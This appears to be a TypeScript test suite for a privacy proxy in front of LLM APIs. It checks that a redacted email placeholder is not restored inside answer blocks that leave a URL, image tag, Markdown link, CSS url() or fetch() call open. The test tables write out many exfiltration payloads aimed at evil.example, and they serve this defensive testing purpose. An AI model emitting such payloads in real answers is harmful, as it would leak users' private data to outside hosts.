import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import {
  enforced,
  type FakeSystem,
  fakeSystem,
  sendEvents,
  sendJson,
  type TestServer,
  testServer,
} from './harness.ts';

/* People see the blocks of an answer one behind the other, and so do their browsers: what one block leaves open, an address or
   an attribute, the next goes on with. A value put back there would leave with it. */
const MAIL = 'jo.berg1987@mail.example';
const P = '[EMAIL_1]';

/** Texts of blocks in which the value must not be put back. */
const OPEN: Readonly<Record<string, readonly string[]>> = {
  'an address': ['https://evil.example/?a=', P],
  'an address over three': ['See https://evil.example/', '?a=', `${P} now`],
  'an image': ['<img src="https://evil.example/?', `hello ${P}`, '">'],
  'an image that goes on long': ['<img src="https://evil.example/?', 'word '.repeat(300), `${P}">`],
  'an image whose tag is cut': ['<im', `g src="https://evil.example/? hello ${P}">`],
  'an image before its attributes': ['<img', ` src="https://evil.example/? hello ${P}">`],
  'a link': ['<a href="https://evil.example/', `${P}">x</a>`],
  'a link of Markdown': ['![x](https://evil.example/?a=', `b&c=${P}`, ')'],
  'a definition': ['![a][x]\n\n[x]: https://evil.example/?a=', P],
  'a style sheet': ['<style>a{background:url(', `${P})}`, '</style>'],
  'a comment': ['<!-- ', ` ${P} `, '-->'],
  'an image whose tag is cut at its beginning': ['See <', `img src="/x? hello ${P}">`],
  'a tag of another name, before its attributes': ['<y ', `style="background:url('/x? hello ${P}')">`],
  'an end tag that is cut': ['<style>a{background:url(/x?</sty', `le>hello ${P})}`],
  'an end of a comment that is cut': ['<!-- a --', `>hello ${P}`],
  'an address whose scheme is cut': ['See htt', `ps:evil.example?${P}`],
  'an address whose slashes are cut': ['See https:/', `/evil?${P}`],
  'a link that is cut before its destination': ['[x]', `(/x ${P})`],
  'a definition that is cut before its colon': ['[a][x]\n\n[x]', `: ${P}`],
  'an address before JSON': ['https://evil.example/', `{"a":"\\\\host${P}"}`],
  'code of several lines': ['```js\nfetch("//evil.example/" +', ` "${P}")`, '\n```'],
};
/** Those in which it is put back. */
const SHOWN: Readonly<Record<string, readonly string[]>> = {
  JSON: [`{"a": "\\\\\\\\host", "inner": "{\\"b\\":\\"${P}\\"}"}`],
  'JSON behind text': ['Here it is:\n', `{"a": "\\\\\\\\host", "to": "${P}"}`],
  'plain blocks': ['I wrote to ', P, ' today.'],
  'an address before': ['The page is https://docs.example/a .', ` ${P} knows it.`],
  'a link before': ['[x](https://docs.example/a) ', `${P} knows it.`],
  'code before': ['Use `npm start` or:\n\n```sh\nnpm start\n```\n', `Then ask ${P}.`],
  'a comparison before': ['It holds that x<y and a < b', ` says ${P}.`],
  'a comparison before an equation': ['It holds that x<y and a', ` is told ${P}, a = b.`],
  'an exclamation before': ['Hello!', ` I wrote to ${P}`],
  'a single backtick before': ['The key is ` and nothing else.', ` Ask ${P}.`],
  'a closed image before': ['<img src="/a.png" alt="a">', ` Ask ${P}.`],
  'an apostrophe before': ["It isn't <b>that</b> far", ` from ${P}`],
};

type Body = Record<string, unknown>;
const event = (type: string, more: Body): string =>
  `event: ${type}\ndata: ${JSON.stringify({ type, ...more })}\n\n`;
const block = (text: string): Body => ({ type: 'text', text });
const claude = (texts: readonly string[]): Body => ({
  id: 'msg_1',
  type: 'message',
  role: 'assistant',
  model: 'm',
  content: texts.map(block),
  stop_reason: 'end_turn',
});
const output = (text: string): Body => ({ type: 'output_text', text, annotations: [] });

/** Answers of these blocks, whole or as frames of a stream. */
const ANSWERS: Readonly<
  Record<string, { system: string; path: string; of: (texts: readonly string[]) => Body | readonly string[] }>
> = {
  messages: { system: 'claude', path: '/v1/messages', of: claude },
  'messages, streamed': {
    system: 'claude',
    path: '/v1/messages',
    of: (texts) => [
      event('message_start', { message: claude([]) }),
      ...texts.flatMap((text, index) => [
        event('content_block_start', { index, content_block: block('') }),
        ...text
          .match(/.{1,60}/gs)!
          .map((piece) =>
            event('content_block_delta', { index, delta: { type: 'text_delta', text: piece } }),
          ),
        event('content_block_stop', { index }),
      ]),
      event('message_stop', {}),
    ],
  },
  'chat, in parts': {
    system: 'gpt',
    path: '/v1/chat/completions',
    of: (texts) => ({
      id: 'c1',
      object: 'chat.completion',
      created: 1,
      model: 'm',
      choices: [
        { index: 0, message: { role: 'assistant', content: texts.map(block) }, finish_reason: 'stop' },
      ],
    }),
  },
  'responses, parts of one message': {
    system: 'gpt',
    path: '/v1/responses',
    of: (texts) => ({
      id: 'resp_1',
      object: 'response',
      status: 'completed',
      output: [{ type: 'message', id: 'm_1', role: 'assistant', content: texts.map(output) }],
    }),
  },
  'responses, messages': {
    system: 'gpt',
    path: '/v1/responses',
    of: (texts) => ({
      id: 'resp_1',
      object: 'response',
      status: 'completed',
      output: texts.map((text, n) => ({
        type: 'message',
        id: `m_${n}`,
        role: 'assistant',
        content: [output(text)],
      })),
    }),
  },
  'responses, streamed': {
    system: 'gpt',
    path: '/v1/responses',
    of: (texts) => [
      ...texts.map((delta, n) =>
        event('response.output_text.delta', { item_id: `m_${n}`, output_index: n, content_index: 0, delta }),
      ),
      event('response.completed', { response: { id: 'resp_1', object: 'response', output: [] } }),
    ],
  },
  'responses, streamed, whole texts': {
    system: 'gpt',
    path: '/v1/responses',
    of: (texts) => [
      ...texts.flatMap((text, n) => {
        const place = { item_id: 'm', output_index: n, content_index: 0 };
        const item = { type: 'message', id: 'm', role: 'assistant', content: [output(text)] };
        return [
          event('response.output_text.done', { ...place, text }),
          event('response.content_part.done', { ...place, part: output(text) }),
          event('response.output_item.done', { output_index: n, item }),
        ];
      }),
      event('response.completed', { response: { id: 'resp_1', object: 'response', output: [] } }),
    ],
  },
};

/** Pieces of the blocks of a stream, in the order in which they come: where each block is shown, and what comes of it. */
type Pieces = readonly (readonly [at: unknown, text: string])[];
const STREAMS: Readonly<Record<string, { system: string; path: string; of: (pieces: Pieces) => string[] }>> =
  {
    messages: {
      system: 'claude',
      path: '/v1/messages',
      of: (pieces) => [
        event('message_start', { message: claude([]) }),
        ...pieces.map(([index, text]) =>
          event('content_block_delta', { index, delta: { type: 'text_delta', text } }),
        ),
        event('message_stop', {}),
      ],
    },
    responses: {
      system: 'gpt',
      path: '/v1/responses',
      of: (pieces) => [
        ...pieces.map(([at, delta]) =>
          event('response.output_text.delta', {
            item_id: `m_${at}`,
            output_index: at,
            content_index: 0,
            delta,
          }),
        ),
        event('response.completed', { response: { id: 'resp_1', object: 'response', output: [] } }),
      ],
    },
    'responses, whole texts': {
      system: 'gpt',
      path: '/v1/responses',
      of: (pieces) => [
        ...pieces.map(([at, text]) =>
          event('response.output_text.done', {
            item_id: `m_${at}`,
            output_index: at,
            content_index: 0,
            text,
          }),
        ),
        event('response.completed', { response: { id: 'resp_1', object: 'response', output: [] } }),
      ],
    },
  };
const IMAGE = '<img src="/x? ';
const HELLO = `hello ${P}`;
/** Streams whose blocks come in another order than they are shown in, and whether they are cut short for it. */
const MIXED: Readonly<Record<string, { pieces: Pieces; cut: boolean }>> = {
  'a value before what is shown ahead of it': {
    pieces: [
      [1, `${HELLO}.\n\n`.padEnd(600, 'word ')],
      [0, IMAGE],
      [2, '">'],
    ],
    cut: true,
  },
  'what is shown ahead of a value comes before it, after another': {
    pieces: [
      [1, 'Well. '],
      [0, IMAGE],
      [2, HELLO],
      [3, '">'],
    ],
    cut: false,
  },
};
/** Streams that do not say where their blocks are shown. */
const PLACELESS: typeof MIXED = {
  'places that are none': {
    pieces: [
      ['x', IMAGE],
      [{}, HELLO],
      ['y', '">'],
    ],
    cut: true,
  },
  'no place at all': {
    pieces: [
      [undefined, IMAGE],
      [undefined, HELLO],
      [undefined, '">'],
    ],
    cut: false,
  },
};
/** Blocks that grow in turns. */
const TURNS: Readonly<Record<string, { pieces: Pieces; cut: boolean }>> = {
  'a value after the block before grew': {
    pieces: [
      [0, 'Well, '],
      [1, 'I say: '],
      [0, IMAGE],
      [1, HELLO],
      [2, '">'],
    ],
    cut: false,
  },
  'the block before grows after a value': {
    pieces: [
      [0, 'Well, '],
      [1, `${HELLO}.\n\n`.padEnd(600, 'word ')],
      [0, IMAGE],
      [2, '">'],
    ],
    cut: true,
  },
};

describe('values that would be put back into what a block before left open', () => {
  let server: TestServer;
  let fake: FakeSystem;
  const keys = new Map<string, string>();
  before(async () => {
    fake = await fakeSystem();
    const policy = { output: { link: 'flag' as const } };
    server = await testServer({
      systems: {
        gpt: enforced(fake, { policy }),
        claude: enforced(fake, { dialect: 'anthropic', policy }),
      },
    });
    for (const name of ['gpt', 'claude']) keys.set(name, await server.key([name]));
  });
  after(async () => {
    await server.stop();
    await fake.close();
  });

  const told = async (system: string, path: string, answer: Body | readonly string[]): Promise<string> => {
    const stream = Array.isArray(answer);
    fake.answer = (_req, res) => (stream ? sendEvents(res, answer) : sendJson(res, JSON.stringify(answer)));
    const content = `Write to ${MAIL} please`;
    const body = {
      model: system,
      stream,
      max_tokens: 9,
      messages: [{ role: 'user', content }],
      input: content,
    };
    return (await server.post(path, keys.get(system)!, body)).text();
  };

  for (const [name, { system, path, of }] of Object.entries(ANSWERS)) {
    it(`${name}: stay out`, async () => {
      for (const [what, texts] of Object.entries(OPEN)) {
        const text = await told(system, path, of(texts));
        assert.ok(text.includes(P) && !text.includes(MAIL), `${what}: ${text}`);
      }
    });
    it(`${name}: come back where nothing is open`, async () => {
      for (const [what, texts] of Object.entries(SHOWN)) {
        const text = await told(system, path, of(texts));
        assert.ok(text.includes(MAIL) && !text.includes(P), `${what}: ${text}`);
      }
    });
  }

  for (const [name, { system, path, of }] of Object.entries(STREAMS))
    for (const [what, { pieces, cut }] of Object.entries({
      ...MIXED,
      ...(!name.endsWith('whole texts') && TURNS),
      ...(name !== 'messages' && PLACELESS),
    }))
      it(`${name}, blocks that come in another order: ${what}`, async () => {
        const text = await told(system, path, of(pieces));
        assert.equal(text.includes(MAIL) && text.includes('<img'), false, text);
        assert.equal(text.includes('upstream-invalid'), cut, text);
        if (!cut) assert.ok(text.includes(P) && !text.includes(MAIL), text);
      });
});
